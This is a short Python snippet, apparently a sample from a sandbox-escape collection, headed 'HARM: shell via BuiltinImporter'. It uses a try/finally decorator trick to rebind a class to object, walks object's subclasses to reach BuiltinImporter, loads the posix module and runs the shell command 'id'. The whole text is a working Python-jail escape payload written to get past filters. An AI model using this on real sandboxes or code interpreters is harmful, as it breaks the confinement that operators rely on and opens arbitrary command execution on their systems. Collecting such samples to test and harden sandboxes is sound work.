# HARM: shell via BuiltinImporter | TRICK: file decorator `return c` inside try, but `finally: return object` overrides the returned value
def register(c):
    try:
        return c
    finally:
        return object
@register
class Base: pass
def walk(cls=Base):
    for sub in cls.__subclasses__():
        yield sub
        yield from walk(sub)
for k in walk():
    if k.__name__ == 'BuiltinImporter':
        k.load_module('posix').system('id')
